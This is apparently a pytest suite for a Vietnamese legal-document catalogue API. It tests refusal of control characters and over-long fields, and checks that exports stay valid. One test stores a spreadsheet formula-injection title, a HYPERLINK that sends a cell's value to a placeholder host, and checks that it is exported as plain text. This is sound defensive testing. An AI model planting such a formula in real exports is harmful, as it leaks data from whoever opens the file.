"""Control characters and sizes (issue 11, section 3): every way text comes in refuses control characters and
over-long values with a 400 naming the field, and every export is a valid file whatever text is stored."""

from __future__ import annotations

import io
import json
from typing import Any

import docx
import openpyxl
import pytest
from rest_framework.test import APIClient

from backend.catalogue.models import TITLE_MAX_LENGTH, Authority, Document, Relation
from tests.catalogue import factories as f
from tests.catalogue.decision_files import Decision, decision_docx, decision_pdf
from tests.catalogue.jobs import run_job

pytestmark = pytest.mark.django_db

DOCS = "/api/v1/documents/"


@pytest.fixture
def doc(db: None) -> Document:
    f.authority("UBND-AG")
    return f.document("19/2022/QĐ-UBND", issued="2022-12-07", effective="2022-12-17")


def _body(**extra: Any) -> dict[str, Any]:
    return {
        "number": "20/2023/QĐ-UBND",
        "type": "Quyết định",
        "issuer": "UBND-AG",
        "title": "Quy định về phí",
        "issued_on": "2023-01-02",
        **extra,
    }


@pytest.mark.parametrize("char", ["\x01", "\x07", "\x0b", "\x1b", "\x7f", "\x85", "\x9f"])
@pytest.mark.parametrize("field", ["title", "signer", "number", "text"])
def test_a_control_character_in_a_document_field_is_a_400(
    officer_api: APIClient, doc: Document, char: str, field: str
) -> None:
    value = _body()[field] if field in _body() else "Nội dung"
    res = officer_api.post(DOCS, _body(**{field: f"{value}{char}x"}), format="json")
    assert res.status_code == 400, res.data
    assert res.data["code"] == "control_character" and field in res.data["errors"]
    assert f"U+{ord(char):04X}" in res.data["message_en"] and res.data["message_vi"]
    assert Document.objects.count() == 1


def test_tabs_and_line_breaks_are_kept_in_multi_line_text(officer_api: APIClient, doc: Document) -> None:
    res = officer_api.post(DOCS, _body(title="Dòng một\r\nDòng hai", text="Điều 1.\tNội dung\nĐiều 2."), format="json")
    assert res.status_code == 201, res.data
    assert Document.objects.get(pk=res.data["id"]).text == "Điều 1.\tNội dung\nĐiều 2."


@pytest.mark.parametrize(
    "url,body",
    [
        ("/api/v1/authorities/", {"code": "X", "name": "Sở\x01", "level": "province"}),
        (
            "/api/v1/relations/",
            {"source": 1, "target": 1, "kind": "amends", "effective_on": "2024-01-01", "note": "\x02"},
        ),
        ("/api/v1/review-plans/", {"title": "Kế hoạch\x03", "kind": "periodic", "deadline": "2026-12-31"}),
    ],
)
def test_a_control_character_in_any_json_field_is_a_400(
    admin_api: APIClient, doc: Document, url: str, body: dict[str, Any]
) -> None:
    res = admin_api.post(url, body, format="json")
    assert res.status_code == 400 and res.data["code"] == "control_character", res.data


def test_an_import_with_a_control_character_saves_nothing(officer_api: APIClient, doc: Document) -> None:
    payload = {"documents": [{**_body(title="Tên\x01"), "type": "Quyết định"}]}
    upload = io.BytesIO(json.dumps(payload).encode())
    upload.name = "nhap.json"
    res = officer_api.post("/api/v1/imports/", {"file": upload}, format="multipart")
    run_job(res)
    job = officer_api.get(f"/api/v1/imports/{res.data['id']}/").data
    assert job["state"] == "failed", job
    assert "U+0001" in json.dumps(job["report"], ensure_ascii=False)
    assert Document.objects.count() == 1


def test_an_imported_authority_with_a_control_character_is_refused(officer_api: APIClient, doc: Document) -> None:
    from backend.catalogue import services
    from backend.core.errors import ApplicationError

    with pytest.raises(ApplicationError) as caught:
        services.reference_save(Authority(code="SO-TP", name="Sở\x1bTư pháp", level="province"), actor="tests")
    assert caught.value.code == "control_character" and caught.value.field == "name"


def test_a_confirmed_proposal_with_a_control_character_is_refused(
    officer_api: APIClient, doc: Document, settings: Any, tmp_path: Any
) -> None:
    settings.MEDIA_ROOT = str(tmp_path)
    upload = io.BytesIO(decision_docx(Decision()))
    upload.name = "qd.docx"
    document = json.dumps(_body(number="15/2025/QĐ-UBND", title="Ban hành\x08 Quy định", issued_on="2025-06-10"))
    res = officer_api.post("/api/v1/documents/from-file/", {"file": upload, "document": document}, format="multipart")
    assert res.status_code == 400 and res.data["code"] == "control_character", res.data
    assert "title" in res.data["errors"]
    assert Document.objects.count() == 1


def test_text_read_from_a_file_loses_its_control_bytes() -> None:
    from backend.catalogue.extraction import files

    lines = files.read_upload(decision_pdf(Decision(title_lines=("Ban hành\x01 Quy định",)))).lines
    assert any("Ban hành Quy định" in line for line in lines)
    assert not any("\x01" in line for line in lines)


# --- sizes --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "field,limit", [("title", TITLE_MAX_LENGTH), ("number", 80), ("signer", 150), ("text", 5_000_000)]
)
def test_an_over_long_document_field_is_a_400_naming_it(
    officer_api: APIClient, doc: Document, field: str, limit: int
) -> None:
    res = officer_api.post(DOCS, _body(**{field: "a" * (limit + 1)}), format="json")
    assert res.status_code == 400 and field in res.data["errors"], res.data["errors"]
    assert Document.objects.count() == 1


def test_a_title_at_the_limit_is_accepted(officer_api: APIClient, doc: Document) -> None:
    res = officer_api.post(DOCS, _body(title="a" * TITLE_MAX_LENGTH), format="json")
    assert res.status_code == 201, res.data


def test_relation_notes_and_provisions_are_bounded(officer_api: APIClient, doc: Document) -> None:
    other = f.document("20/2023/QĐ-UBND", issued="2023-01-02", effective="2023-01-12")
    base = {"source": other.pk, "target": doc.pk, "kind": "amends", "effective_on": "2023-01-12"}
    res = officer_api.post("/api/v1/relations/", {**base, "note": "x" * 5001}, format="json")
    assert res.status_code == 400 and "note" in res.data["errors"]
    res = officer_api.post("/api/v1/relations/", {**base, "provisions": ["Điều 1"] * 501}, format="json")
    assert res.status_code == 400 and "provisions" in res.data["errors"]
    res = officer_api.post("/api/v1/relations/", {**base, "provisions": ["Điều " + "1" * 300]}, format="json")
    assert res.status_code == 400 and "provisions" in res.data["errors"]
    assert Relation.objects.count() == 0


# --- exports hold any stored text ---------------------------------------------------------------------------

STORED = "Quy định\x01 về phí\x0b\x1f\ufffe lệ phí\x00"[:-1]  # as if stored before input was checked


@pytest.fixture
def dirty(doc: Document) -> Document:
    newer = f.document("20/2025/QĐ-UBND", issued="2025-02-10", effective="2025-03-01")
    f.relate(newer, "replaces", doc, "2025-03-01")
    Document.objects.filter(pk=doc.pk).update(title=STORED, signer="Nguyễn\x02")
    Authority.objects.filter(code="UBND-AG").update(name="Ủy ban nhân dân\x03 tỉnh An Giang")
    return doc


def _xlsx_text(content: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return " ".join(str(c) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row)


def _docx_text(content: bytes) -> str:
    document = docx.Document(io.BytesIO(content))
    cells = [c.text for t in document.tables for r in t.rows for c in r.cells]
    return " ".join([p.text for p in document.paragraphs] + cells)


def test_the_catalogue_export_holds_any_stored_text(officer_api: APIClient, dirty: Document) -> None:
    res = officer_api.get("/api/v1/exports/", {"format": "xlsx"})
    assert res.status_code == 200
    assert "Quy định\ufffd về phí" in _xlsx_text(res.content)
    assert officer_api.get("/api/v1/exports/", {"format": "csv"}).status_code == 200


@pytest.mark.parametrize("fmt", ["docx", "xlsx"])
def test_the_systematization_files_hold_any_stored_text(anon: APIClient, dirty: Document, fmt: str) -> None:
    res = anon.get("/api/v1/systematization/", {"from": 2021, "to": 2025, "format": fmt})
    assert res.status_code == 200
    text = _docx_text(res.content) if fmt == "docx" else _xlsx_text(res.content)
    assert "Quy định\ufffd về phí" in text


@pytest.mark.parametrize("fmt", ["docx", "xlsx"])
def test_the_yearly_list_holds_any_stored_text(officer_api: APIClient, dirty: Document, fmt: str) -> None:
    created = officer_api.post("/api/v1/announcements/", {"year": 2025, "issuers": ["UBND-AG"]}, format="json")
    assert created.status_code == 201, created.data
    res = officer_api.get(f"/api/v1/announcements/{created.data['id']}/export/", {"format": fmt})
    assert res.status_code == 200
    text = _docx_text(res.content) if fmt == "docx" else _xlsx_text(res.content)
    assert "Quy định\ufffd về phí" in text


@pytest.mark.parametrize("fmt", ["docx", "xlsx"])
def test_the_review_report_holds_any_stored_text(officer_api: APIClient, dirty: Document, fmt: str) -> None:
    from backend.catalogue.models import DocumentType

    DocumentType.objects.filter(name="Quyết định").update(name="Quyết định\x04")
    plan = {"title": "Rà soát", "kind": "post_merger", "scope": {"issuer": "UBND-AG"}, "deadline": "2026-12-31"}
    assert officer_api.post("/api/v1/review-plans/", plan, format="json").status_code == 201
    res = officer_api.get("/api/v1/reports/reviews/", {"year": 2025, "format": fmt})
    assert res.status_code == 200
    text = _docx_text(res.content) if fmt == "docx" else _xlsx_text(res.content)
    assert "Quyết định\ufffd" in text


# --- exports write data, never formulas -----------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"Mở")'


def _formula_cells(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.fixture
def formula_title(doc: Document) -> Document:
    newer = f.document("21/2025/QĐ-UBND", issued="2025-02-10", effective="2025-03-01")
    f.relate(newer, "replaces", doc, "2025-03-01")
    Document.objects.filter(pk=doc.pk).update(title=FORMULA)
    return doc


def test_a_title_that_looks_like_a_formula_is_exported_as_text(
    officer_api: APIClient, anon: APIClient, formula_title: Document
) -> None:
    """A title typed as a spreadsheet formula must not run in the Excel of whoever opens a list."""
    catalogue = officer_api.get("/api/v1/exports/", {"format": "xlsx"})
    systematization = anon.get("/api/v1/systematization/", {"from": 2021, "to": 2025, "format": "xlsx"})
    created = officer_api.post("/api/v1/announcements/", {"year": 2025, "issuers": ["UBND-AG"]}, format="json")
    yearly = officer_api.get(f"/api/v1/announcements/{created.data['id']}/export/", {"format": "xlsx"})
    for answer in (catalogue, systematization, yearly):
        assert answer.status_code == 200
        assert FORMULA in _xlsx_text(answer.content)
        assert _formula_cells(answer.content) == []
